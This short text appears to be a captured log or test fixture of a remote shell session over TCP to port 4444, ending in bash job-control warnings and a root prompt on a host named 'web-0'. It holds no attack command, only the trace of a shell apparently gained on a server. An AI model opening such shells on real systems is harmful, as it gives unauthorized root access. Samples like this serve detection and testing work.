# interactive shell started on a socket.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:4444

>>>
bash: cannot set terminal process group (7): Inappropriate ioctl for device\n
bash: no job control in this shell\n
root@web-0:/#\x20
